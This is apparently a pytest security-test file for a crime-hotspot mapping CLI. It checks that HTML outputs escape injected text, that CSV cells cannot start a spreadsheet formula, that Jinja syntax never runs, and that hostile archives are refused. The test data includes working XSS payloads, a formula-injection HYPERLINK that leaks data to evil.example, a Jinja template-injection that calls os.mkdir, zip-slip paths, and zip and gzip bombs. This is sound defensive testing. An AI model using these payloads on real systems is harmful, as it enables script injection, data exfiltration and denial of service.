"""Hostile input: script payloads never run, CSV formulas are neutralised, archives are safe.

One ``hotspots detect`` runs on inputs whose every free-text field carries a payload:
``Location`` and ``LSOA name`` of the rows, the crime types (through a custom ``--harm``
table, so that they are accepted), the area names of a custom ``--areas`` file and the
input file's own name. Every HTML output is then checked as text (payloads escaped) and
opened in headless Chromium, offline, with every map layer switched on and every tooltip
opened: no payload may run (``window.__pwned`` stays undefined, no ``alert`` dialog, no
element with an event handler appears). Every CSV output is checked for cells that a
spreadsheet would run as a formula.
"""

from __future__ import annotations

import csv
import gzip
import json
import random
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from conftest import street_row, write_street

from hotspots.core.errors import InputError
from hotspots.ingest.read import read_incidents
from hotspots.io.atomic import FORMULA_PREFIXES

CLI = ("-m", "hotspots.cli.main")
CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"]

SCRIPT = "<script>window.__pwned=1;alert(1)</script>"
IMG = '<img src=x onerror="window.__pwned=2;alert(2)">'
SVG = '"><svg onload="window.__pwned=3;alert(3)">'
BREAKOUT = "</script><script>window.__pwned=4;alert(4)</script>"
JS_STRING = "'-alert(5)-'\"-alert(6)-\"`${alert(7)}`"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
PAYLOADS = (SCRIPT, IMG, SVG, BREAKOUT, JS_STRING, FORMULA)
# Jinja syntax: folium/branca compile rendered map scripts as templates a second time;
# this one would create a folder in the working directory if it ever ran (no quotes needed)
TEMPLATE_CODE = "{{ lipsum.__globals__.os.mkdir(dict(hotspots_template_ran=1)|first) }}"
TEMPLATES = ("{{ 7*7 }}", "{% raw %}", TEMPLATE_CODE, "{# comment")
# a file name cannot hold "/", so it carries an event-handler payload instead of </script>
FILE_PAYLOAD = "<img src=x onerror=window.__pwned=8>"
FILE_NAME = f"2024-01-{FILE_PAYLOAD}-street.csv"

TRAFALGAR = (-0.1281, 51.5080)
BRIXTON = (-0.1146, 51.4613)


def run_cli(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, *CLI, *args],
        capture_output=True,
        text=True,
        timeout=600,
        cwd=cwd,
    )


def square(lon: float, lat: float, d: float = 0.008) -> dict:
    ring = [[lon - d, lat - d], [lon + d, lat - d], [lon + d, lat + d], [lon - d, lat + d]]
    return {"type": "Polygon", "coordinates": [[*ring, ring[0]]]}


def write_hostile_inputs(folder: Path) -> dict[str, Path]:
    """Areas, harm table and incidents whose text fields all carry payloads."""
    folder.mkdir(parents=True, exist_ok=True)
    areas = {
        "type": "FeatureCollection",
        "features": [
            {
                "type": "Feature",
                "properties": {"code": "A1", "name": SCRIPT + " " + BREAKOUT},
                "geometry": square(*TRAFALGAR),
            },
            {
                "type": "Feature",
                "properties": {"code": FORMULA, "name": IMG + " " + FORMULA},
                "geometry": square(*BRIXTON),
            },
        ],
    }
    (folder / "areas.geojson").write_text(json.dumps(areas), encoding="utf-8")
    offences = [IMG + " theft", SCRIPT + " robbery", FORMULA]
    with open(folder / "harm.csv", "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["offence", "harm"])
        writer.writerows([[o, w] for o, w in zip(offences, (10, 40, 5), strict=True)])
    rng = random.Random(0)
    rows = []
    for i in range(400):
        lon0, lat0 = (TRAFALGAR, BRIXTON)[i % 2]
        spread = 0.2 if i % 3 == 0 else 1.0  # dense cores, so that clusters form
        row = street_row(
            crime_id=f"id{i}" if i % 5 else f"{FORMULA}{i}",
            month=f"2024-{1 + i % 8:02d}",
            lon=round(lon0 + rng.uniform(-0.004, 0.004) * spread, 6),
            lat=round(lat0 + rng.uniform(-0.003, 0.003) * spread, 6),
            crime_type=offences[i % 3],
            location="On or near " + PAYLOADS[i % len(PAYLOADS)],
        )
        row["LSOA name"] = SVG + " 001A"
        row["Last outcome category"] = FORMULA
        rows.append(row)
    rows.append(street_row(crime_id="-1+2", lon="", lat="", location=FORMULA))
    rows.append(street_row(crime_id="@SUM(A1)", crime_type=SCRIPT))  # unknown offence
    incidents = write_street(folder / FILE_NAME, rows)
    return {"areas": folder / "areas.geojson", "harm": folder / "harm.csv", "incidents": incidents}


@pytest.fixture(scope="module")
def hostile_detect(tmp_path_factory) -> Path:
    """``hotspots detect`` on the hostile inputs, with a map and report per area."""
    base = tmp_path_factory.mktemp("hostile")
    inputs = write_hostile_inputs(base / "in")
    out = base / "out"
    result = run_cli(
        "detect",
        str(inputs["incidents"]),
        "--areas",
        str(inputs["areas"]),
        "--area-name",
        "name",
        "--area-code",
        "code",
        "--harm",
        str(inputs["harm"]),
        "--borough-report",
        "all",
        "--out",
        str(out),
    )
    assert result.returncode == 0, result.stderr
    return out


@pytest.fixture(scope="module")
def hostile_harm_map(tmp_path_factory) -> Path:
    """The demo's London harm map (``draw_harm_map``) drawn from hostile names."""
    from hotspots.geo.boundaries import custom_layers
    from hotspots.geo.grid import make_grid
    from hotspots.maps.draw import draw_harm_map, render_map

    base = tmp_path_factory.mktemp("harm_map")
    inputs = write_hostile_inputs(base / "in")
    layers = custom_layers(inputs["areas"], code_column="code", name_column="name")
    cells = make_grid(layers.study, resolution=9)
    cells["incidents"] = [i % 7 for i in range(len(cells))]
    cells["harm"] = cells["incidents"] * 12.5
    areas = layers.study.polygons.rename(columns={"name": "area_name"})
    areas["count"], areas["harm"] = [3, 40], [30.0, 400.0]
    fmap = draw_harm_map(
        cells,
        boroughs=layers.study.polygons,
        title=f"Harm map {SCRIPT}",
        period=f"2024-01 to 2024-08 {IMG}",
        harm_table=f"user table {SVG}",
        areas=areas,
        areas_label=f"Violence per area {BREAKOUT}",
        areas_period=JS_STRING,
    )
    path = base / "harm_map.html"
    path.write_text(render_map(fmap), encoding="utf-8")
    return path


def html_outputs(folder: Path) -> list[Path]:
    return sorted(folder.rglob("*.html"))


# --- HTML as text ---------------------------------------------------------------------


def assert_escaped(text: str, where: str) -> None:
    for payload in (SCRIPT, IMG, SVG, BREAKOUT, FILE_PAYLOAD):
        assert payload not in text, (where, payload)
    assert "window.__pwned" in text, where  # the payloads are there, made inert


def test_every_detect_html_output_escapes_input_text(hostile_detect):
    pages = html_outputs(hostile_detect)
    names = {p.relative_to(hostile_detect).as_posix() for p in pages}
    assert {"map.html", "report.html"} <= names
    assert any(n.startswith("boroughs/") for n in names), names  # per-area pages too
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert_escaped(text, page.name)
    report = (hostile_detect / "report.html").read_text(encoding="utf-8")
    assert "&lt;img src=x onerror=window.__pwned=8&gt;" in report  # the input file's name
    assert "&lt;script&gt;window.__pwned=1" in report  # an area name, as text


def test_per_area_folders_are_named_safely(hostile_detect):
    folders = list((hostile_detect / "boroughs").iterdir())
    assert len(folders) == 2
    for folder in folders:
        assert folder.resolve().parent == (hostile_detect / "boroughs").resolve()
        assert all(c.isalnum() or c == "_" for c in folder.name), folder.name


def test_harm_map_escapes_area_names_labels_and_titles(hostile_harm_map):
    assert_escaped(hostile_harm_map.read_text(encoding="utf-8"), "harm map")


# --- in the browser ---------------------------------------------------------------------

OPEN_EVERYTHING = """
() => {
  document.querySelectorAll('.leaflet-control-layers-selector').forEach(box => {
    if (!box.checked) box.click();
  });
  let opened = 0;
  for (const key of Object.keys(window)) {
    const map = window[key];
    if (!(map instanceof L.Map)) continue;
    map.eachLayer(layer => {
      if (layer.getTooltip && layer.getTooltip()) {
        layer.openTooltip(layer.getBounds ? layer.getBounds().getCenter() : undefined);
        opened += 1;
      }
      if (layer.getPopup && layer.getPopup()) { layer.openPopup(); }
    });
  }
  return opened;
}
"""
FOUND = """
() => ({
  pwned: window.__pwned === undefined ? null : String(window.__pwned),
  handlers: document.querySelectorAll('[onerror], [onload], [onclick], [onmouseover]').length,
  // Leaflet draws vector layers (and its attribution flag) in <svg class="leaflet-...">
  injected: document.querySelectorAll('img[src="x"]').length + Array.from(
    document.querySelectorAll('svg')).filter(
      svg => !(svg.getAttribute('class') || '').startsWith('leaflet-')).length,
  text: document.body.innerText,
})
"""


def open_in_chromium(path: Path, *, is_map: bool) -> dict[str, object]:
    sync_api = pytest.importorskip("playwright.sync_api")
    if not Path(CHROMIUM).exists():
        pytest.skip("Debian chromium is not installed (apt-get install chromium)")
    dialogs: list[str] = []
    errors: list[str] = []
    with sync_api.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        context = browser.new_context(offline=True, viewport={"width": 1200, "height": 900})
        page = context.new_page()
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.on("pageerror", lambda e: errors.append(str(e)))
        page.goto(path.resolve().as_uri())
        opened = 0
        if is_map:
            page.wait_for_selector(".leaflet-container", timeout=20_000)
            opened = page.evaluate(OPEN_EVERYTHING)
            page.mouse.move(600, 450)
        page.wait_for_timeout(500)
        found = page.evaluate(FOUND)
        browser.close()
    found.update(dialogs=dialogs, errors=errors, opened=opened)
    return found


def assert_nothing_ran(seen: dict[str, object], where: str) -> None:
    assert seen["pwned"] is None, where
    assert seen["dialogs"] == [], where
    assert seen["handlers"] == 0, where
    assert seen["injected"] == 0, where  # no <img src=x> or foreign <svg> in the page
    assert seen["errors"] == [], where


def test_detect_pages_run_no_script_from_input_in_chromium(hostile_detect):
    for page in html_outputs(hostile_detect):
        is_map = page.name == "map.html"
        seen = open_in_chromium(page, is_map=is_map)
        assert_nothing_ran(seen, str(page))
        if is_map:
            assert seen["opened"] > 10  # every cell, cluster and area tooltip was opened
        assert SCRIPT in str(seen["text"]) or IMG in str(seen["text"])  # shown as text


def test_harm_map_runs_no_script_from_input_in_chromium(hostile_harm_map):
    seen = open_in_chromium(hostile_harm_map, is_map=True)
    assert_nothing_ran(seen, "harm map")
    assert seen["opened"] > 10
    assert SCRIPT in str(seen["text"])  # the title shows the payload as text


# --- CSV outputs -------------------------------------------------------------------------


def csv_cells(path: Path) -> list[str]:
    with open(path, encoding="utf-8", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_no_csv_output_starts_a_formula(hostile_detect):
    outputs = sorted(hostile_detect.rglob("*.csv"))
    assert {p.name for p in outputs} >= {"rejects.csv", "cells.csv", "clusters.csv"}
    for path in outputs:
        for cell in csv_cells(path):
            if cell.startswith(FORMULA_PREFIXES):
                float(cell)  # only numbers (a longitude such as -0.12) may keep a sign
    cells = csv_cells(hostile_detect / "cells.csv")
    assert "'" + FORMULA in cells  # the area code and name, neutralised, not dropped
    rejects = csv_cells(hostile_detect / "rejects.csv")
    assert "'-1+2" in rejects or any(c.startswith("{") for c in rejects)


def test_formula_cells_in_rejects_are_neutralised_through_ingest(tmp_path):
    rows = [
        street_row(crime_id=value, lon="", lat="")
        for value in ("=1+1", "+44 20 7946 0000", "-2+3", "@SUM(A1)", "\t=1", "-0.12")
    ]
    path = write_street(tmp_path / "2024-01-metropolitan-street.csv", rows)
    assert run_cli("ingest", str(path), "--out", str(tmp_path / "out")).returncode == 0
    # the Crime ID is in the raw JSON, which starts with "{"; the file label is a cell
    weird = tmp_path / "=cmd|calc.csv"
    shutil.copy(path, weird)
    result = run_cli("ingest", weird.name, "--out", "out2", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    labels = [c for c in csv_cells(tmp_path / "out2" / "rejects.csv") if "cmd|calc" in c]
    assert labels and all(c.startswith("'=") for c in labels)


# --- archives ----------------------------------------------------------------------------


def test_zip_slip_entry_names_are_labels_never_paths(tmp_path):
    source = write_street(tmp_path / "src.csv", [street_row(crime_id="z1")])
    data = source.read_bytes()
    work = tmp_path / "work"
    work.mkdir()
    absolute = tmp_path / "absolute-street.csv"
    names = [
        "../../slip-street.csv",
        "..\\..\\win-slip-street.csv",
        str(absolute),
        "a/../../../deep-street.csv",
        "./ok/2024-01-street.csv",
    ]
    archive = work / "download.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        for name in names:
            zf.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), data)
    result = run_cli("ingest", "download.zip", "--out", "out", cwd=work)
    assert result.returncode == 0, result.stderr
    manifest = json.loads((work / "out" / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["rows"]["read"] == len(names)
    assert sorted(e["member"] for e in manifest["inputs"]) == sorted(names)
    # nothing was written where the names point
    for target in (
        tmp_path / "slip-street.csv",
        tmp_path.parent / "slip-street.csv",
        absolute,
        tmp_path.parent / "deep-street.csv",
        work / "ok",
    ):
        assert not target.exists(), target
    written = {p.relative_to(work).parts[0] for p in work.rglob("*")}
    assert written == {"download.zip", "out"}
    loaded = read_incidents(archive)
    assert {label.split("!", 1)[1] for label in loaded.incidents["source_file"]} == set(names)


def _zip_stream_bomb(path: Path, member: str, size: int, *, gz: bool = False) -> None:
    """A zip whose member inflates to ``size`` bytes of newlines from a few hundred KB."""
    header = (",".join(street_row().keys()) + "\n").encode()
    chunk = b"\n" * 2**20
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        if gz:
            member_gz = gzip.compress(header + chunk, mtime=0) + gzip.compress(chunk, mtime=0) * (
                size // 2**20
            )
            archive.writestr(member, member_gz)
        else:
            with archive.open(member, "w") as handle:
                handle.write(header)
                for _ in range(size // 2**20):
                    handle.write(chunk)


def test_gzip_bomb_on_disk_is_refused(tmp_path, settings):
    header = (",".join(street_row().keys()) + "\n").encode()
    one = gzip.compress(b"\n" * 2**20, mtime=0)  # about 1 KB
    path = tmp_path / "2024-01-metropolitan-street.csv.gz"
    path.write_bytes(gzip.compress(header, mtime=0) + one * 200)  # multi-member: 200 MiB
    assert path.stat().st_size < 300_000
    with pytest.raises(InputError, match="zip bomb"):
        read_incidents(path, settings=settings)


def test_gzip_member_inside_zip_bomb_is_refused(tmp_path, settings):
    archive = tmp_path / "nested.zip"
    _zip_stream_bomb(archive, "2024-01-x-street.csv.gz", 200 * 2**20, gz=True)
    with pytest.raises(InputError, match="zip bomb"):
        read_incidents(archive, settings=settings)


def test_zip_member_that_understates_its_size_is_cut_and_refused(tmp_path, settings):
    archive = tmp_path / "liar.zip"
    _zip_stream_bomb(archive, "2024-01-x-street.csv", 100 * 2**20)
    data = bytearray(archive.read_bytes())
    central = data.rfind(b"PK\x01\x02")
    assert data[:4] == b"PK\x03\x04" and central > 0
    # declare 1 KiB uncompressed (local header offset 22, central directory offset 24)
    data[22:26] = data[central + 24 : central + 28] = (1024).to_bytes(4, "little")
    archive.write_bytes(bytes(data))
    # zipfile stops at the declared size, and the CRC of the cut data fails
    with pytest.raises(InputError, match="truncated or corrupt"):
        read_incidents(archive, settings=settings)


def test_refusal_reaches_the_cli_as_one_line(tmp_path):
    archive = tmp_path / "bomb.zip"
    _zip_stream_bomb(archive, "2024-01-x-street.csv", 100 * 2**20)
    assert archive.stat().st_size < 200_000
    result = run_cli("ingest", str(archive), "--out", str(tmp_path / "out"))
    assert result.returncode == 2
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and "zip bomb" in lines[0] and "Traceback" not in result.stderr
    left = list((tmp_path / "out").rglob("*")) if (tmp_path / "out").exists() else []
    assert left == []


# --- template syntax ----------------------------------------------------------------------


def test_template_syntax_in_input_is_shown_never_run(tmp_path):
    """``{{ ... }}`` in a place, area or offence name is text, never Jinja code."""
    inputs = write_hostile_inputs(tmp_path / "in")
    rows = [
        street_row(
            crime_id=f"t{i}",
            lon=round(TRAFALGAR[0] + (i % 7) * 0.0004, 6),
            lat=round(TRAFALGAR[1] + (i % 5) * 0.0003, 6),
            crime_type=IMG + " theft",
            location="On or near " + TEMPLATES[i % len(TEMPLATES)],
        )
        for i in range(200)
    ]
    write_street(tmp_path / "in" / "2024-02-metropolitan-street.csv", rows)
    areas = json.loads(inputs["areas"].read_text(encoding="utf-8"))
    areas["features"][0]["properties"]["name"] = "Area {{ 6*7 }} {% raw %}"
    inputs["areas"].write_text(json.dumps(areas), encoding="utf-8")
    result = run_cli(
        "detect",
        "in/2024-02-metropolitan-street.csv",
        "--areas",
        "in/areas.geojson",
        "--area-name",
        "name",
        "--area-code",
        "code",
        "--harm",
        "in/harm.csv",
        "--borough-report",
        "all",
        "--out",
        "out",
        cwd=tmp_path,
    )
    assert not (tmp_path / "hotspots_template_ran").exists(), "input text ran as code"
    assert result.returncode == 0, result.stderr[-2000:]
    for page in html_outputs(tmp_path / "out"):
        text = page.read_text(encoding="utf-8")
        assert "On or near 49" not in text and "Area 42" not in text, page
    assert not (tmp_path / "hotspots_template_ran").exists()
